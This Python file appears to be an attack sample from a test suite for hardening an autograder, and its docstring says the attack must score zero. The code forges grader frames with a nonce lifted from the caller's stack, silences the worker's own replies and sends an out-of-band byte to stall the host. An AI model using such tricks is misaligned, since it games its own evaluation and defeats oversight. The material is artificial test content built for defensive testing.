"""Strategy: send a byte out of band behind the last reply, so that the host sees something to read, and waits for ever to read it. Surface: MSG_OOB on the channel.

Class: result channel. Unprotected: grader channel gives full marks. Level: 5.
Must get 0: what is there without being readable is an answer that nobody asked for, and the host never waits to look at it.
"""

import socket
import struct
import sys
import time


def nonce():
    """The number of the request, from a variable of whoever called."""
    frame = sys._getframe(1)
    while frame is not None:
        if hasattr(frame.f_locals.get("frame"), "nonce"):
            return frame.f_locals["frame"].nonce
        frame = frame.f_back
    return 0


def silence():
    """Keep the worker from sending a reply of its own."""
    try:
        import autograder.worker.main as worker
    except ImportError:
        return
    worker.send_frame = lambda *frame: None


def packed(number, body, tensors=struct.pack("<I", 0), kind=5, length=None):
    payload = struct.pack("<I", len(body)) + body + tensors
    return struct.pack("<4sB3xQQ", b"FUS1", kind, number, len(payload) if length is None else length) + payload


def send(data):
    with socket.socket(fileno=socket.dup(3)) as channel:
        channel.setblocking(True)
        try:
            channel.sendall(data)
        except OSError:
            pass
CALLS = 9  # of a grading in which every check ends at its first question
answered = []


def read_graph(rows):
    answered.append(1)
    send(packed(nonce(), b'{"value": {}}'))
    if len(answered) == CALLS:
        with socket.socket(fileno=socket.dup(3)) as channel:
            channel.send(b"!", socket.MSG_OOB)
    silence()
    return {}
